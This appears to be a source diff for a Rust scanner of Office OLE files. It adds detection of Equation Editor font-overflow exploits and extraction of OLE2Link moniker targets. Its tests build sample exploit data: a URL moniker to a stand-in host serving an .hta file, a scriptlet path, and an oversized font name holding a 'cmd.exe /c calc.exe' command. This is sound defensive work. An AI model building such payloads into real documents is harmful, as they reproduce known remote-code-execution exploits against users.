@@ -20,6 +20,7 @@
 //! charged to the [`Budget`] first and capped at [`Limits::max_stream_bytes`].
 
 use std::borrow::Cow;
+use std::collections::HashMap;
 use std::io::{Cursor, Read, Seek};
 
 use bytes::Bytes;
@@ -39,6 +40,9 @@ pub const EQUATION_CLSIDS: [&str; 3] = [
 /// StdOleLink: an OLE2Link object, which fetches the target of its moniker
 /// (CVE-2017-0199).
 pub const STD_OLE_LINK: &str = "00000300-0000-0000-C000-000000000046";
+
+const URL_MONIKER: &str = "79EAC9E0-BAF9-11CE-8C82-00AA004BA90B";
+const FILE_MONIKER: &str = "00000303-0000-0000-C000-000000000046";
 
 /// CLSIDs of the OLE Packager (its data is an `Ole10Native` stream).
 const PACKAGE_CLSIDS: [&str; 2] = [
@@ -96,7 +100,14 @@ pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
         }
     };
     let entries = list_entries(&file, limits.max_entries, &mut out);
+    // The streams of each storage, indexed once (a hostile file may hold
+    // thousands of storages).
+    let mut streams_of: HashMap<&str, Vec<usize>> = HashMap::new();
+    for (k, e) in entries.iter().enumerate().filter(|(_, e)| e.is_stream) {
+        streams_of.entry(parent_of(&e.path)).or_default().push(k);
+    }
     let mut objects = 0usize;
+    let mut controls: Vec<(String, Vec<String>)> = Vec::new();
     for storage in entries.iter().filter(|e| !e.is_stream) {
         if budget.expired() {
             out.limits
@@ -113,10 +124,10 @@ pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
         if in_vba_project(&storage.path) {
             continue;
         }
-        let children: Vec<&Entry> = entries
-            .iter()
-            .filter(|e| e.is_stream && parent_of(&e.path) == storage.path)
-            .collect();
+        let children: Vec<&Entry> = streams_of
+            .get(storage.path.as_str())
+            .map(|v| v.iter().filter_map(|&k| entries.get(k)).collect())
+            .unwrap_or_default();
         let has = |name: &str| children.iter().any(|c| c.name.eq_ignore_ascii_case(name));
         let document = ["WordDocument", "Workbook", "Book", "PowerPoint Document"]
             .iter()
@@ -148,7 +159,8 @@ pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
             }
             continue;
         }
-        if !(marked || (pooled && clsid.is_some())) {
+        let root_object = storage.path == "/" && clsid.is_some();
+        if !(marked || root_object || (pooled && clsid.is_some())) {
             continue;
         }
         objects += 1;
@@ -183,6 +195,20 @@ pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
                 IndicatorKind::EquationEditor,
                 format!("{named}{via}{where_}"),
             );
+            if has("Equation Native") {
+                let path = join(&storage.path, "Equation Native");
+                if let Some(eq) = read_stream(&mut file, &path, 65536, budget, &mut out) {
+                    if let Some(len) = overflowing_font_name(&eq) {
+                        out.indicator(
+                            IndicatorKind::Malformed,
+                            format!(
+                                "Equation Native{where_} has a {len}-byte font name, past \
+                                 the Equation Editor's buffer (CVE-2017-11882/CVE-2018-0802)"
+                            ),
+                        );
+                    }
+                }
+            }
             continue;
         }
         if has("\u{1}Ole10Native") {
@@ -211,11 +237,13 @@ pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
             } else {
                 None
             };
-            let detail = match name {
-                Some(n) => format!("{named} ({n}){where_}"),
-                None => format!("{named}{where_}"),
-            };
-            out.indicator(IndicatorKind::ActiveX, detail);
+            // One indicator per kind of control, naming a few of them:
+            // documents carry dozens of text boxes.
+            let shown = name.unwrap_or_else(|| storage.path.trim_start_matches('/').to_string());
+            match controls.iter_mut().find(|(n, _)| *n == named) {
+                Some((_, names)) => names.push(shown),
+                None => controls.push((named, vec![shown])),
+            }
             continue;
         }
         if clsid.as_deref() == Some(STD_OLE_LINK) && has("\u{1}Ole") {
@@ -225,8 +253,11 @@ pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
             );
             let path = join(&storage.path, "\u{1}Ole");
             if let Some(s) = read_stream(&mut file, &path, 65536, budget, &mut out) {
-                for url in utf16_urls(&s, 8) {
-                    out.indicator(IndicatorKind::ExternalReference, format!("OLE2Link: {url}"));
+                for url in moniker_targets(&s, 8) {
+                    out.indicator(
+                        IndicatorKind::ExternalReference,
+                        format!("OLE2Link oleObject: {url}"),
+                    );
                 }
             }
             continue;
@@ -242,20 +273,33 @@ pub fn open_with(data: &[u8], budget: &Budget, limits: &Limits) -> Opened {
             continue;
         }
         out.indicator(IndicatorKind::OleObject, format!("{named}{where_}"));
-        // An embedded OOXML file (Package) or PDF and the like (CONTENTS).
-        for inner in ["Package", "CONTENTS"] {
-            if has(inner) {
-                let path = join(&storage.path, inner);
-                if let Some(s) =
-                    read_stream(&mut file, &path, limits.max_stream_bytes, budget, &mut out)
-                {
-                    if !s.is_empty() {
-                        out.embedded
-                            .push(Embedded::new(None, s, "OLE object stream"));
-                    }
+        // An embedded OOXML file (Package), or PDF, Flash and the like
+        // (CONTENTS).
+        for child in children.iter().filter(|c| {
+            c.name.eq_ignore_ascii_case("Package") || c.name.eq_ignore_ascii_case("CONTENTS")
+        }) {
+            if let Some(s) = read_stream(
+                &mut file,
+                &child.path,
+                limits.max_stream_bytes,
+                budget,
+                &mut out,
+            ) {
+                if !s.is_empty() {
+                    out.embedded
+                        .push(Embedded::new(None, s, "OLE object stream"));
                 }
             }
         }
+    }
+    for (named, names) in controls {
+        let mut detail = format!("{named}: {} control(s) ", names.len());
+        let listed: Vec<&str> = names.iter().take(5).map(String::as_str).collect();
+        detail.push_str(&listed.join(", "));
+        if names.len() > 5 {
+            detail.push_str(", ...");
+        }
+        out.indicator(IndicatorKind::ActiveX, detail);
     }
     out
 }
@@ -293,30 +337,27 @@ fn list_entries<F: Read + Seek>(
     entries
 }
 
-/// Open a compound file; when the crate refuses it (truncated files, whose
-/// FAT covers sectors past the end, are common in RTF `\objdata` and Office
-/// opens them), retry once with the file padded with zeros, within the
-/// budget.
+/// Open a compound file, padded to the size its FAT describes when it is
+/// shorter.
 pub(crate) fn open_cfb<'a>(
     data: &'a [u8],
     budget: &Budget,
     max_bytes: u64,
 ) -> Result<cfb::CompoundFile<Cursor<Cow<'a, [u8]>>>, String> {
-    let first = match cfb::CompoundFile::open(Cursor::new(Cow::Borrowed(data))) {
-        Ok(f) => return Ok(f),
-        Err(e) => e.to_string(),
-    };
-    let Some(wanted) = padded_size(data, max_bytes) else {
-        return Err(first);
-    };
-    budget.take(wanted).map_err(|e| e.to_string())?;
-    let Ok(wanted) = usize::try_from(wanted) else {
-        return Err(first);
-    };
-    let mut padded = Vec::with_capacity(wanted);
-    padded.extend_from_slice(data);
-    padded.resize(wanted, 0);
-    cfb::CompoundFile::open(Cursor::new(Cow::Owned(padded))).map_err(|_| first)
+    // Truncated files (the FAT covers sectors past the end) are common in
+    // RTF \objdata and Office opens them: pad them with zeros (within the
+    // budget) so that streams read to their end.
+    if let Some(wanted) = padded_size(data, max_bytes) {
+        if let (Ok(()), Ok(size)) = (budget.take(wanted), usize::try_from(wanted)) {
+            let mut padded = Vec::with_capacity(size);
+            padded.extend_from_slice(data);
+            padded.resize(size, 0);
+            if let Ok(f) = cfb::CompoundFile::open(Cursor::new(Cow::Owned(padded))) {
+                return Ok(f);
+            }
+        }
+    }
+    cfb::CompoundFile::open(Cursor::new(Cow::Borrowed(data))).map_err(|e| e.to_string())
 }
 
 /// The size a truncated compound file should have: a whole number of
@@ -342,8 +383,11 @@ fn padded_size(data: &[u8], max: u64) -> Option<u64> {
         .checked_mul(sector / 4)?
         .checked_add(1)?
         .checked_mul(sector)?;
-    let wanted = whole.max(by_fat.min(max));
-    (wanted > len && wanted <= max).then_some(wanted)
+    // Exploits cut a few sectors off; a header claiming a huge FAT must not
+    // make a small file cost megabytes of zeros.
+    let reach = len.saturating_mul(2).saturating_add(1 << 16);
+    let wanted = whole.max(by_fat.min(reach)).min(max);
+    (wanted > len).then_some(wanted)
 }
 
 /// Read at most `cap` bytes of a stream, charging them to the budget first.
@@ -369,15 +413,24 @@ fn read_stream<F: Read + Seek>(
         return None;
     }
     let mut data = Vec::new();
-    match stream.take(len).read_to_end(&mut data) {
-        Ok(_) => Some(data),
-        Err(e) => {
-            out.limits
-                .push(format!("OLE stream {}: {e}", printable(path)));
-            // What was read before the damage is still worth a look.
-            (!data.is_empty()).then_some(data)
+    // The crate's own read_to_end keeps what a damaged (short) chain holds;
+    // a stream longer than the cap is read through `take`.
+    let read = if stream.len() <= cap {
+        let mut stream = stream;
+        stream.read_to_end(&mut data)
+    } else {
+        stream.take(len).read_to_end(&mut data)
+    };
+    if let Err(e) = read {
+        out.limits
+            .push(format!("OLE stream {}: {e}", printable(path)));
+        // What was read before the damage is still worth a look.
+        if data.is_empty() {
+            return None;
         }
     }
+    data.truncate(usize::try_from(len).unwrap_or(usize::MAX));
+    Some(data)
 }
 
 /// UTF-16LE URLs (`http://`, `https://`, `file://`, `\\host`) in `data`, at
@@ -412,6 +465,46 @@ pub(crate) fn utf16_urls(data: &[u8], max: usize) -> Vec<String> {
                 }
             }
         }
+    }
+    found
+}
+
+/// The targets of the monikers in an OLE2Link's `\x01Ole` stream (or any
+/// bytes holding one): URL monikers (a UTF-16 URL) and file monikers (an
+/// ANSI path, CVE-2017-8570 scriptlets), then any UTF-16 URL; at most
+/// `max`.
+pub(crate) fn moniker_targets(data: &[u8], max: usize) -> Vec<String> {
+    let mut found: Vec<String> = Vec::new();
+    let add = |t: String, found: &mut Vec<String>| {
+        let t = t.trim().to_string();
+        if !t.is_empty() && found.len() < max && !found.contains(&t) {
+            found.push(t);
+        }
+    };
+    if let Some(clsid) = clsid_bytes(URL_MONIKER) {
+        for at in memchr::memmem::find_iter(data, &clsid) {
+            let mut r = Reader::new(data.get(at + 16..).unwrap_or(&[]));
+            let Some(len) = r.u32() else { continue };
+            let raw = r.take((len as usize).min(4096)).unwrap_or_else(|| r.rest());
+            add(utf16z(raw), &mut found);
+        }
+    }
+    if let Some(clsid) = clsid_bytes(FILE_MONIKER) {
+        for at in memchr::memmem::find_iter(data, &clsid) {
+            let mut r = Reader::new(data.get(at + 16..).unwrap_or(&[]));
+            let (Some(_anti), Some(len)) = (r.u16(), r.u32()) else {
+                continue;
+            };
+            if let Some(raw) = r.take((len as usize).min(4096)) {
+                add(
+                    ansi(raw.split(|&b| b == 0).next().unwrap_or(&[])),
+                    &mut found,
+                );
+            }
+        }
+    }
+    for url in utf16_urls(data, max) {
+        add(url, &mut found);
     }
     found
 }
@@ -459,7 +552,8 @@ pub(crate) fn package_native(native: &Bytes, how: &'static str, out: &mut Opened
             }
         }
         None => {
-            out.indicator(IndicatorKind::OlePackage, "(unreadable package data)");
+            // Packager could not read it either: an object, not a package.
+            out.indicator(IndicatorKind::OleObject, "OLE Package with unreadable data");
             out.limits
                 .push("OLE Package data too short or damaged to read".into());
         }
@@ -521,6 +615,29 @@ pub(crate) fn parse_package(native: &[u8]) -> Option<Package> {
         let start = r.pos;
         let end = start.saturating_add(size as usize).min(native.len());
         package.data = Some((start, end, u64::from(size)));
+        // After the data, newer packagers repeat the temp path, label and
+        // source path in UTF-16 (the ANSI ones lose non-Latin letters).
+        if end == start.saturating_add(size as usize) {
+            let mut tail = Reader::new(native.get(end..).unwrap_or(&[]));
+            let mut wide = || -> Option<String> {
+                let chars = tail.u32()? as usize;
+                if chars > 32768 {
+                    return None;
+                }
+                Some(utf16z(tail.take(chars.checked_mul(2)?)?))
+            };
+            if let (Some(temp), Some(label), Some(source)) = (wide(), wide(), wide()) {
+                for (ansi, wide) in [
+                    (&mut package.temp_path, temp),
+                    (&mut package.label, label),
+                    (&mut package.source, source),
+                ] {
+                    if !wide.is_empty() {
+                        *ansi = wide;
+                    }
+                }
+            }
+        }
     }
     Some(package)
 }
@@ -544,6 +661,31 @@ pub(crate) fn compobj_prog_id(data: &[u8]) -> Option<String> {
     }
     let prog_id = r.lpstr(4096)?;
     (!prog_id.is_empty()).then_some(prog_id)
+}
+
+/// The length of a font name in an `Equation Native` stream's MTEF data
+/// that overflows the Equation Editor's 32-byte name buffer, the shape of
+/// CVE-2017-11882 and CVE-2018-0802; `None` for an ordinary equation.
+///
+/// The stream is a 28-byte EQNOLEFILEHDR (its size in the first u16), then
+/// MTEF: a 5-byte header and records. A FONT record is tag 8, a typeface
+/// byte, a style byte and a NUL-ended name; honest names are short.
+pub fn overflowing_font_name(stream: &[u8]) -> Option<usize> {
+    let header = usize::from(u16::from_le_bytes([*stream.first()?, *stream.get(1)?]));
+    let mtef = stream.get(header.max(2)..)?;
+    // MTEF versions 2 and 3 are what the Equation Editor reads.
+    if !matches!(mtef.first(), Some(2 | 3)) {
+        return None;
+    }
+    let records = mtef.get(5..)?;
+    for (at, _) in records.iter().enumerate().filter(|(_, &b)| b == 8) {
+        let name = records.get(at + 3..)?;
+        let len = memchr::memchr(0, name).unwrap_or(name.len());
+        if len > 32 {
+            return Some(len);
+        }
+    }
+    None
 }
 
 /// `Equation.3` in any case, with or without junk after it.
@@ -816,10 +958,10 @@ mod tests {
         let o = run(&file);
         assert_eq!(
             kinds(&o),
-            vec![IndicatorKind::ActiveX, IndicatorKind::OleObject]
+            vec![IndicatorKind::OleObject, IndicatorKind::ActiveX]
         );
-        assert!(o.indicators[0].detail.contains("Shell.Explorer.2"));
-        assert!(o.indicators[1].detail.starts_with("Excel.Sheet.12"));
+        assert!(o.indicators[0].detail.starts_with("Excel.Sheet.12"));
+        assert!(o.indicators[1].detail.contains("Shell.Explorer.2"));
         assert_eq!(&o.embedded[0].data[..], b"PK\x03\x04inner");
     }
 
@@ -888,6 +1030,79 @@ mod tests {
         let (s, e, declared) = p.data.unwrap();
         assert_eq!(e - s, 14);
         assert_eq!(declared, u64::from(u32::MAX));
+    }
+
+    #[test]
+    fn ole2link_monikers_name_their_target() {
+        let mut ole = vec![1, 0, 0, 2, 9, 0, 0, 0, 1, 0, 0, 0];
+        ole.extend_from_slice(&clsid_bytes(URL_MONIKER).unwrap());
+        let url: Vec<u8> = "hTTp://evil.example/a.hta\0"
+            .encode_utf16()
+            .flat_map(|u| u.to_le_bytes())
+            .collect();
+        ole.extend_from_slice(&(url.len() as u32).to_le_bytes());
+        ole.extend_from_slice(&url);
+        ole.extend_from_slice(&clsid_bytes(FILE_MONIKER).unwrap());
+        ole.extend_from_slice(&[0, 0, 18, 0, 0, 0]);
+        ole.extend_from_slice(b"%TMP%\\x.sct\0\0\0\0\0\0\0");
+        let file = build(|c| {
+            c.set_storage_clsid("/", STD_OLE_LINK.parse().unwrap())
+                .unwrap();
+            put(c, "/\u{1}Ole", &ole);
+        });
+        let o = run(&file);
+        let refs: Vec<_> = o
+            .indicators
+            .iter()
+            .filter(|i| i.kind == IndicatorKind::ExternalReference)
+            .map(|i| i.detail.as_str())
+            .collect();
+        assert_eq!(
+            refs,
+            vec![
+                "OLE2Link oleObject: hTTp://evil.example/a.hta",
+                "OLE2Link oleObject: %TMP%\\x.sct"
+            ],
+            "{o:?}"
+        );
+        // Cut anywhere, the moniker reader stays in bounds.
+        for cut in 0..ole.len() {
+            let _ = moniker_targets(&ole[..cut], 8);
+        }
+    }
+
+    #[test]
+    fn equation_native_font_overflow() {
+        let mut honest = vec![0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4];
+        honest.resize(28, 0);
+        honest.extend_from_slice(&[
+            3, 1, 1, 3, 10, 10, 1, 8, 0x81, 0, b'T', b'i', b'm', b'e', b's', 0, 0,
+        ]);
+        assert_eq!(overflowing_font_name(&honest), None);
+        let mut exploit = honest[..28 + 5].to_vec();
+        exploit.extend_from_slice(&[10, 1, 8, 0x5A, 0x5A]);
+        exploit.extend_from_slice(b"cmd.exe /c calc.exe AAAAAAAAAAAAAAAAAAAAAAAA\x12\x0c\x43");
+        exploit.push(0);
+        assert_eq!(overflowing_font_name(&exploit), Some(47));
+        for cut in 0..exploit.len() {
+            let _ = overflowing_font_name(&exploit[..cut]);
+        }
+    }
+
+    #[test]
+    fn unicode_names_replace_the_ansi_ones() {
+        let mut native = package_bytes("?.txt", "C:\\?.txt", b"hi");
+        for name in ["C:\\Temp\\ü.txt", "ü.txt", "C:\\ü.txt"] {
+            let units: Vec<u16> = name.encode_utf16().collect();
+            native.extend_from_slice(&(units.len() as u32).to_le_bytes());
+            native.extend(units.iter().flat_map(|u| u.to_le_bytes()));
+        }
+        let p = parse_package(&native).unwrap();
+        assert_eq!(p.file_name(), "ü.txt");
+        assert_eq!(p.label, "ü.txt");
+        for cut in 0..native.len() {
+            let _ = parse_package(&native[..cut]);
+        }
     }
 
     #[test]
